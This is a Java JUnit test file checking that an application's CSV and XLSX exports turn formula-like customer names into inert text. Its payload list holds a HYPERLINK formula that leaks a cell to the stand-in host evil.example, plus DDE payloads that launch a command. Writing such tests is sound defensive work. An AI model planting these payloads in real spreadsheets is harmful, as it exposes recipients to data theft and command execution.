package com.flowstate.action.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.List;

import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Text a spreadsheet would run as a formula reaches the recipient as text, in csv and in xlsx alike. */
class ExportFormulaInjectionTest {

    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Clicca qui\")";
    static final List<String> PAYLOADS = List.of(HYPERLINK, "+39 333 1234567", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1");

    @TempDir Path dir;

    @Test
    void neutralisesAFormulaBehindLeadingSpaces() {
        assertThat(ExportCells.neutralise(" =1+1")).isEqualTo("' =1+1");
        assertThat(ExportCells.neutralise("\u00A0 @SUM(A1)")).isEqualTo("'\u00A0 @SUM(A1)");
    }

    @Test
    void neutralisesEveryLeadingCharacterOnOwaspsList() {
        for (String payload : PAYLOADS) {
            assertThat(ExportCells.neutralise(payload)).as(payload).isEqualTo("'" + payload);
        }
    }

    @Test
    void leavesOrdinaryTextAndEmptyValuesAlone() {
        assertThat(ExportCells.neutralise("Mario Rossi")).isEqualTo("Mario Rossi");
        assertThat(ExportCells.neutralise("   ")).isEqualTo("   ");
        assertThat(ExportCells.neutralise("Rossi = Verdi")).isEqualTo("Rossi = Verdi");
        assertThat(ExportCells.neutralise("")).isEmpty();
        assertThat(ExportCells.neutralise(null)).isNull();
    }

    @Test
    void aCustomerNamedLikeAFormulaComesOutAsTextInCsv() throws IOException {
        Path file = write(ExportExtension.CSV);

        List<List<String>> rows = ExportFileReader.csv(Files.readAllBytes(file));

        assertThat(rows.get(0)).containsExactly("Cliente", "Importo", "Attiva", "Data", "Creata il");
        assertThat(rows).hasSize(1 + PAYLOADS.size() + 1);
        for (int i = 0; i < PAYLOADS.size(); i++) {
            assertThat(rows.get(i + 1).get(0)).as("row %d", i + 1).isEqualTo("'" + PAYLOADS.get(i));
        }
        // A negative amount is a number, not text: it is written as it is.
        assertThat(rows.get(rows.size() - 1)).containsExactly("Mario Rossi", "-5", "true", "2025-03-01",
                "2025-03-01 09:30:00");
    }

    @Test
    void aCustomerNamedLikeAFormulaComesOutAsTextInXlsx() throws IOException {
        Path file = write(ExportExtension.XLSX);

        List<List<Object>> rows = ExportFileReader.xlsx(Files.readAllBytes(file));

        assertThat(rows.get(0)).containsExactly("Cliente", "Importo", "Attiva", "Data", "Creata il");
        for (int i = 0; i < PAYLOADS.size(); i++) {
            // As typed, no apostrophe to see: the cell is quote-prefixed text, which Excel never evaluates.
            assertThat(rows.get(i + 1).get(0)).as("row %d", i + 1).isEqualTo(PAYLOADS.get(i));
        }
        assertThat(rows).flatExtracting(row -> row).noneMatch(cell -> cell instanceof String text
                && text.startsWith("FORMULA:"));
        try (var workbook = new XSSFWorkbook(Files.newInputStream(file))) {
            var sheet = workbook.getSheetAt(0);
            for (int i = 0; i < PAYLOADS.size(); i++) {
                assertThat(sheet.getRow(i + 1).getCell(0).getCellStyle().getQuotePrefixed()).as("row %d", i + 1)
                        .isTrue();
            }
            assertThat(sheet.getRow(PAYLOADS.size() + 1).getCell(0).getCellStyle().getQuotePrefixed()).isFalse();
        }
        assertThat(rows.get(rows.size() - 1)).containsExactly("Mario Rossi", -5.0, true, "2025-03-01",
                "2025-03-01 09:30:00");
    }

    private Path write(ExportExtension extension) throws IOException {
        Path file = dir.resolve("export." + extension.fileSuffix());
        try (ExportSheetWriter writer = ExportSheetWriter.open(extension, file)) {
            writer.header(List.of("Cliente", "Importo", "Attiva", "Data", "Creata il"));
            for (String payload : PAYLOADS) {
                writer.row(new Object[] {payload, 1L, Boolean.FALSE, null, null});
            }
            writer.row(new Object[] {"Mario Rossi", -5L, Boolean.TRUE, LocalDate.of(2025, 3, 1),
                    LocalDateTime.of(2025, 3, 1, 9, 30)});
            writer.finish();
        }
        return file;
    }
}
